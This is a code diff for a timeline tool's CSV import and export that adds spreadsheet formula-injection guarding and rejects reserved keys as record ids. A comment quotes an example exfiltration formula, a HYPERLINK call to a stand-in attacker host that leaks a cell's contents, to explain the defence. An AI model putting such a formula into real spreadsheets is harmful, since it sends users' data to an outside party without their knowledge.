@@ -34,7 +34,7 @@ import type {
 } from '../format/types';
 import { cellProblem, isBlankRow, normaliseHeader, readCsv, type CsvRow } from './csv-rows';
 import { checkConverted, Origins, sortProblems, type Finding, type ImportResult } from './origins';
-import { compact } from '../format/objects';
+import { compact, RESERVED_KEYS } from '../format/objects';
 
 /** The columns, in the order the exporter writes them. */
 export const DATELINE_COLUMNS = [
@@ -115,11 +115,34 @@ export function isDatelineHeader(header: readonly string[]): boolean {
 
 // --- export ----------------------------------------------------------------------------------
 
+/**
+ * Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return) as a formula:
+ * `=HYPERLINK("https://evil.example/?leak="&A1, …)` would send the sheet away. Such cells are
+ * written with a leading ' (OWASP's advice), and so is a cell that already starts with ' and
+ * one of those, so that reading takes exactly one ' off (`unguardCell`). Date columns keep a
+ * date or number that starts with "-" (a BCE year, -0043-03-15; a negative number) as written:
+ * digits and date punctuation call nothing, and the value round-trips as it is.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+const DATE_COLUMNS: ReadonlySet<Column> = new Set(['date', 'end', 'source date']);
+const DATE_OR_NUMBER = /^-?[0-9][0-9.:T+\-Z]*$/;
+
+function guardCell(column: Column, value: string): string {
+  if (!FORMULA_START.test(value)) return value;
+  if (DATE_COLUMNS.has(column) && DATE_OR_NUMBER.test(value)) return value;
+  return `'${value}`;
+}
+
+/** A cell as written, without the ' that `guardCell` put before a formula-like start. */
+function unguardCell(value: string): string {
+  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
+}
+
 /** Writes a timeline (as a file holds it) in Dateline's spreadsheet layout. */
 export function toDatelineCsv(timeline: TimelineInput): string {
   const rows: string[][] = [[...DATELINE_COLUMNS]];
   const row = (kind: Kind, cells: Partial<Record<Column, string | undefined>>) =>
-    rows.push(DATELINE_COLUMNS.map((c) => (c === 'kind' ? kind : (cells[c] ?? ''))));
+    rows.push(DATELINE_COLUMNS.map((c) => (c === 'kind' ? kind : guardCell(c, cells[c] ?? ''))));
   const sourceCells = (s: SourceInput | undefined) => {
     const cells: Partial<Record<Column, string>> = {};
     if (s)
@@ -250,6 +273,10 @@ class Reader {
               'id',
               `a ${kind} row needs an id, the key events and people use for it`,
             );
+            continue;
+          }
+          if (RESERVED_KEYS.has(id)) {
+            this.error(row, 'id', `"${id}" cannot be used as an id; choose another`);
             continue;
           }
           if (seen.has(id)) {
@@ -489,7 +516,7 @@ class Reader {
 
   private raw(row: CsvRow, column: Column): string {
     const index = this.columns.get(column);
-    return index === undefined ? '' : (row.cells[index] ?? '');
+    return index === undefined ? '' : unguardCell(row.cells[index] ?? '');
   }
 
   /** A text cell: trimmed, line breaks as "\n", `undefined` when empty. */
